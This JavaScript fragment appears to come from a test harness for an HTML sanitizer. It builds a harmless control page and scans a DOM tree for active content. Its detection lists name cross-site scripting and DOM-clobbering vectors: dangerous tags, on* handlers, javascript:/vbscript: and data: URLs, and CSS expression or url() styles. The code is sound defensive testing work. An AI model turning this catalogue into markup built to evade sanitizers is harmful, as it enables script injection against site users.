 * A page built like the others but with a harmless vector (a plain paragraph), for the
 * harness's own checks; `extraHead` goes into its <head>.
 * @param {string} name @param {string} [extraHead]
 */
export function controlPage(name, extraHead = '') {
  const p = page(999, { family: 'control', vector: name, make: () => '<p>Nothing hostile here.</p>' });
  return { ...p, name: `control-${name}`, html: p.html.replace('</head>', `${extraHead}\n</head>`) };
}

/**
 * Runs in the browser: what is active in the subtree `root` (an element, a document's body or a
 * shadow root's part). Uses the prototypes' own methods, since a hostile page may clobber the
 * document's.
 */
export function activeContentInPage(root) {
  const BAD_TAGS = new Set('script iframe frame frameset object embed applet base meta link form style svg math template noscript input button textarea select option portal isindex keygen marquee video audio source xmp plaintext dialog'.split(' '));
  const URL_ATTRS = new Set('href src action formaction xlink:href poster background data ping cite codebase dynsrc lowsrc longdesc usemap manifest'.split(' '));
  const dangerousUrl = (v) => {
    // What a browser reads: no tabs or newlines anywhere, no spaces or controls around it.
    const seen = v.replace(/[\t\n\r]/g, '').replace(/^[\x00-\x20]+|[\x00-\x20]+$/g, '').toLowerCase();
    return /^(javascript|vbscript|livescript|mocha):/.test(seen) || (/^data:/.test(seen) && !/^data:image\/(png|gif|jpe?g|webp|avif)[;,]/.test(seen));
  };
  const problems = [];
  const all = Element.prototype.querySelectorAll.call(root, '*');
  for (const el of all) {
    const tag = el.localName;
    if (BAD_TAGS.has(tag)) problems.push(`<${tag}> element`);
    for (const { name, value } of Array.from(Element.prototype.getAttributeNames.call(el), (n) => ({ name: n, value: el.getAttribute(n) ?? '' }))) {
      const n = name.toLowerCase();
      if (n.startsWith('on')) problems.push(`<${tag} ${n}>`);
      else if (n === 'srcdoc' || n === 'formaction' || n === 'action' || n === 'ping' || n === 'name' || n === 'is') problems.push(`<${tag} ${n}>`);
      else if (n === 'id' && !value.startsWith('pith-')) problems.push(`<${tag} id="${value}"> (not prefixed: it may clobber)`);
      else if (n === 'style' && /url\s*\(|expression|behavior|binding|@import|\\/i.test(value)) problems.push(`<${tag} style="${value.slice(0, 60)}">`);
      else if (n === 'srcset' && value.split(',').some((c) => dangerousUrl(c.trim().split(/\s+/)[0] ?? ''))) problems.push(`<${tag} srcset> with a script URL`);
      else if (URL_ATTRS.has(n) && dangerousUrl(value)) problems.push(`<${tag} ${n}="${value.slice(0, 40)}…">`);
    }
  }
  return problems;
}
